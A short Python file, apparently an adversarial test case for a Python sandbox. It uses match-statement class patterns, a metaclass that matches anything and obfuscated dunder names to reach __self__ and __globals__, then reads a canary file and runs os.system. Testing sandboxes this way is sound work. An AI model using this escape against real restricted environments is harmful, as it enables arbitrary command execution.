"""A class pattern's positional parts read what __match_args__ names, and a metaclass makes anything match."""
# ruff: noqa -- hostile data, not project code: written to attack, not to be linted
class Anything(type):
    def __instancecheck__(cls, obj):
        return True
class Door(metaclass=Anything):
    __match_args__ = ("_" * 2 + "self" + "_" * 2,)
class Globals(metaclass=Anything):
    __match_args__ = ("_" * 2 + "globals" + "_" * 2,)
match len:
    case Door(b):
        print(b, sorted(dir(b)))
        print(b.open("@CANARY@").read())
match Value.backward:
    case Globals(g):
        print(g)
        g["__builtins__"]["__import__"]("os").system("touch @MARKERDIR@/match_positional")
